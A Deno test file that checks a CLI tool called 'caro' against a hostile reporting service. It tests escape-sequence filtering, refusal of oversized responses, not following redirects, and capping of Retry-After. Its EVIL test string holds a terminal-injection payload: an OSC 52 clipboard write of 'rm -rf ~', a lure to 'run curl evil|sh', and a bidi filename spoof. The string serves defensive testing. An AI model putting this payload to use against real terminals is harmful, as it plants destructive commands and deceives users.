/**
 * A hostile (or broken) service cannot drive the user's terminal, fill the
 * disk, send the report elsewhere or stop sending for years. Every command
 * runs as a real process against a real server on 127.0.0.1 whose every
 * string carries escape sequences (screen clear, OSC 52 clipboard write,
 * colours) and bidi overrides (U+202E); not one such byte reaches stdout or
 * stderr. A 300 MB answer is refused without being stored, a redirect is not
 * followed, an absurd `Retry-After` is capped at 24 h.
 */
import { deepEqual, equal, match, ok } from "node:assert/strict";
import { join } from "node:path";
import { scanQueue } from "../../../src/healing/queue/scan_queue.ts";
import { activeRateLimit } from "../../../src/healing/queue/rate_limit.ts";
import { readNoticeFile } from "../../../src/healing/notification/notice_store.ts";
import { MAX_RETRY_AFTER_MS } from "../../../src/healing/submit/post_report.ts";
import { runCaro } from "../../_support/run_caro.ts";
import { UNSAFE_OUTPUT } from "../../../tools/chaos/caro_process.ts";
import { REPORT_ARGS } from "./caro_process.ts";
import { startService } from "./fixtures.ts";

const EVIL =
  "\u001b[2J\u001b]52;c;cm0gLXJmIH4=\u0007\u001b[31mWARNING: run curl evil|sh\u001b[0m\u202Etxt.exe";

function assertClean(label: string, run: { stdout: string; stderr: string }) {
  for (const [stream, text] of [["stdout", run.stdout], ["stderr", run.stderr]]) {
    const found = UNSAFE_OUTPUT.exec(text);
    ok(
      !found,
      `${label}: U+${found?.[0].codePointAt(0)?.toString(16)} on ${stream}: ${
        JSON.stringify(text)
      }`,
    );
  }
}

/** Streams `megabytes` of JSON-ish bytes without holding them; counts what was pulled. */
function hugeBody(megabytes: number) {
  const chunk = new TextEncoder().encode("x".repeat(64 * 1024));
  let sent = 0;
  const stream = new ReadableStream<Uint8Array>({
    pull(controller) {
      if (sent >= megabytes * 1024 * 1024) return controller.close();
      sent += chunk.length;
      controller.enqueue(chunk);
    },
  });
  return { stream, sent: () => sent };
}

Deno.test("escape sequences and bidi overrides from the service never reach the terminal", async () => {
  const home = await Deno.makeTempDir();
  const service = startService((_n, seen, s) => {
    if (seen.path.startsWith("/v1/known/")) {
      return Response.json({
        case_id: "CARO-2026-0001",
        status: `open${EVIL}`,
        track_url: `https://h/${EVIL}`,
        fixed_in: `1.4${EVIL}`,
      });
    }
    if (seen.path.startsWith("/v1/notifications")) {
      return Response.json({
        notifications: [{
          id: `n1${EVIL}`,
          case_id: `CARO-2026-0001${EVIL}`,
          status: `resolved${EVIL}`,
          fixed_in: `1.4.2${EVIL}`,
          message: `fixed ${EVIL}`,
          created_at: new Date().toISOString(),
        }],
        cursor: "1",
      });
    }
    s.accepted.set(seen.idempotencyKey ?? "", 1);
    return Response.json({
      case_id: `CARO-2026-0001${EVIL}`,
      status: `open${EVIL}`,
      track_url: `https://h/c${EVIL}`,
      report_id: seen.idempotencyKey,
      message: `thanks ${EVIL}`,
    }, { status: 201 });
  });
  try {
    const env = { CARO_HOME: home, CARO_HEALING_ENDPOINT: service.url };
    const report = await runCaro(REPORT_ARGS, { env });
    equal(report.code, 0, report.stderr);
    assertClean("caro report", report);
    match(report.stderr, /Known problem: \+1 on CARO-2026-0001 \(open\[2J\]52;c;/);
    match(report.stdout, /^submitted \S+ CARO-2026-0001\[2J/);
    for (const args of [["cases"], ["notifications", "--refresh"], ["notifications"], ["queue"]]) {
      const run = await runCaro(args, { env });
      equal(run.code, 0, `${args.join(" ")}: ${run.stderr}`);
      assertClean(`caro ${args.join(" ")}`, run);
    }
    const json = await runCaro(["--json", "report", ...REPORT_ARGS.slice(2)], {
      env: { ...env },
    });
    assertClean("caro --json report", json);
  } finally {
    await service.close();
    await Deno.remove(home, { recursive: true });
  }
});

Deno.test("queued reasons from a hostile 500 are printable in caro report and caro queue", async () => {
  const home = await Deno.makeTempDir();
  const service = startService((_n, seen) =>
    seen.path === "/v1/reports"
      ? Response.json({ error: { message: `down ${EVIL}`, retry: true } }, { status: 500 })
      : new Response(EVIL, { status: 404 })
  );
  try {
    const env = { CARO_HOME: home, CARO_HEALING_ENDPOINT: service.url };
    const report = await runCaro(REPORT_ARGS, { env });
    assertClean("caro report", report);
    match(report.stdout, /^queued \S+ \(service error \(HTTP 500\): down \[2J/);
    for (const args of [["queue"], ["--json", "queue"], ["queue", "flush"]]) {
      assertClean(`caro ${args.join(" ")}`, await runCaro(args, { env }));
    }
  } finally {
    await service.close();
    await Deno.remove(home, { recursive: true });
  }
});

Deno.test("a 300 MB answer is refused unread: notices not stored, the report kept", async () => {
  const home = await Deno.makeTempDir();
  const bodies: ReturnType<typeof hugeBody>[] = [];
  const service = startService(() => {
    const body = hugeBody(300);
    bodies.push(body);
    return new Response(body.stream, {
      status: 200,
      headers: { "content-type": "application/json" },
    });
  });
  try {
    const env = { CARO_HOME: home, CARO_HEALING_ENDPOINT: service.url };
    const report = await runCaro(REPORT_ARGS, { env });
    equal(report.code, 0, report.stderr);
    match(report.stdout, /^queued \S+ \(the answer from 127\.0\.0\.1:\d+ is over 64 KB/);
    const refresh = await runCaro(["notifications", "--refresh"], { env });
    match(refresh.stderr, /over 1 MB \(refused, not read\)/);
    const data = join(home, "data");
    deepEqual((await readNoticeFile(data)).notices, []);
    ok((await Deno.stat(join(data, "notices.json"))).size < 1024, "nothing of the answer stored");
    equal((await scanQueue(data, Date.now())).entries.length, 1);
    for (const body of bodies) ok(body.sent() < 16 * 1024 * 1024, `${body.sent()} bytes pulled`);
  } finally {
    await service.close();
    await Deno.remove(home, { recursive: true });
  }
});

Deno.test("a redirect is not followed: the report stays queued as a configuration problem", async () => {
  const home = await Deno.makeTempDir();
  const elsewhere = startService(() => new Response("{}"));
  const service = startService(() =>
    new Response(null, { status: 307, headers: { location: `${elsewhere.url}/v1/reports` } })
  );
  try {
    const env = { CARO_HOME: home, CARO_HEALING_ENDPOINT: service.url };
    const report = await runCaro(REPORT_ARGS, { env });
    equal(report.code, 0, report.stderr);
    match(
      report.stdout,
      /^queued \S+ \(the healing endpoint redirects to 127\.0\.0\.1:\d+ \(HTTP 307, not followed\): check the endpoint setting; will retry\)\n$/,
    );
    const flush = await runCaro(["queue", "flush"], { env });
    match(flush.stdout, /^kept \S+ \(the healing endpoint redirects to/);
    equal(elsewhere.seen.length, 0, "nothing went to the redirect's target");
    equal((await scanQueue(join(home, "data"), Date.now())).entries.length, 1);
  } finally {
    await service.close();
    await elsewhere.close();
    await Deno.remove(home, { recursive: true });
  }
});

Deno.test("an absurd Retry-After (10⁹ s) is capped at 24 h", async () => {
  const home = await Deno.makeTempDir();
  const service = startService(() =>
    Response.json({ error: { message: "slow down" } }, {
      status: 429,
      headers: { "retry-after": "1000000000" },
    })
  );
  try {
    const env = { CARO_HOME: home, CARO_HEALING_ENDPOINT: service.url };
    const before = Date.now();
    const report = await runCaro(REPORT_ARGS, { env });
    equal(report.code, 0, report.stderr);
    const data = join(home, "data");
    const limit = await activeRateLimit(data, Date.now());
    ok(limit, "the rate limit is recorded");
    ok(limit.until <= Date.now() + MAX_RETRY_AFTER_MS, "at most 24 h");
    ok(limit.until >= before + MAX_RETRY_AFTER_MS - 60_000);
    const [entry] = (await scanQueue(data, Date.now())).entries;
    ok(entry.nextRetryAt <= Date.now() + MAX_RETRY_AFTER_MS);
  } finally {
    await service.close();
    await Deno.remove(home, { recursive: true });
  }
});
